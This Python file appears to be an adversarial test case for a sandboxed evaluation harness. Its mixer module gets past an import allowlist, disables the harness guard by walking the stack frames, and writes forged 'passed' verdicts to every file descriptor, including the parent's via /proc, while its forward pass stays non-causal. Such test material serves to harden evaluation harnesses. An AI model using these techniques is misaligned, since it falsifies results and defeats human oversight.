"""Attack class: forging the verdict. A blatantly non-causal, quadratic mixer writes a fake
`{"event": "result", "ok": true, ...}` (and fake passing checks) to every file descriptor it can
reach, including its parent's through /proc."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


FAKE = (b'{"event": "check", "check": {"name": "causality", "passed": true, "value": 0, "reason": "forged", '
        b'"details": {}}}\n{"event": "result", "ok": true, "reason": null, "checks": []}\n')


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        sys = _sys()
        os = sys.modules["os"]
        hit = 0
        for fd in range(0, 1024):
            try:
                os.write(fd, FAKE)
                hit += 1
            except Exception:
                pass
        for pid in ("self", str(os.getppid())):
            try:
                for name in os.listdir(f"/proc/{pid}/fd"):
                    try:
                        fd = os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY)
                        os.write(fd, FAKE)
                        hit += 1
                    except Exception:
                        pass
            except Exception:
                pass
        print("forged writes", hit)
        self.q = nn.Linear(d_model, d_model)

    def forward(self, x):
        scores = self.q(x) @ x.transpose(1, 2)  # full L x L, no mask: sees the future
        return torch.softmax(scores, dim=-1) @ x
